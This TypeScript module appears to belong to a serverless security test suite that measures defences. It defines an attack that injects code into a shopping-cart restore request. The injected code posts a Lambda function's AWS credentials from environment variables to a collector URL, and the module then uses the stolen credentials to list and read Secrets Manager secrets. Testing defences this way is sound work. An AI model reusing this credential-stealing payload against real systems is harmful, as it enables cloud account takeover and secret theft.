import type { Attack, AttackContext } from "../attack.ts";
import type { AwsSession, StolenCredentials } from "../aws-session.ts";
import { summary } from "../exchange.ts";
import { cartTwin, codeInCart, restore } from "./shared/requests.ts";

export const overPrivilegedRole: Attack = {
  id: "over-privileged-role",
  title: "Read another function's secret with the role of a hijacked function",
  owasp: ["SAS-6", "SAS-5", "CWE-250"],
  paper: "III.2.A",
  defences: ["function:cart-signature", "function:cart-revival", "iam:role"],
  operation: "restoreCart",
  target: "carts",
  run: async (context) => {
    const token = context.sink.token();
    const answer = await context.send(restore(context, codeInCart(credentialThief(context, token))));
    const [hit] = context.sink.hits(token);
    if (!hit) return { effect: false, evidence: summary(answer) };
    const session = context.aws(JSON.parse(hit.body) as StolenCredentials);
    try {
      const secret = await readSecret(session);
      return {
        effect: secret !== undefined,
        evidence: secret ?? "the code ran, but AWS answers AccessDenied to the role for every secret",
      };
    } finally {
      session.close();
    }
  },
  twin: cartTwin,
};

/** Lambda gives a function the credentials of its role in the environment. */
function credentialThief(context: AttackContext, token: string): string {
  const credentials =
    "{accessKeyId:process.env.AWS_ACCESS_KEY_ID,secretAccessKey:process.env.AWS_SECRET_ACCESS_KEY," +
    "sessionToken:process.env.AWS_SESSION_TOKEN}";
  return `fetch("${context.sink.url}/${token}",{method:"POST",body:JSON.stringify(${credentials})})`;
}

/** The first secret that the role gives away, as a sentence; the secret itself is not repeated in the report. */
async function readSecret(session: AwsSession): Promise<string | undefined> {
  const names = await session.listSecrets();
  if (!names.ok) return undefined;
  for (const name of names.value) {
    const secret = await session.secretValue(name);
    if (secret.ok && secret.value.length > 0) {
      return `the cart function's role reads the secret ${name} (${secret.value.length} characters)`;
    }
  }
  return undefined;
}
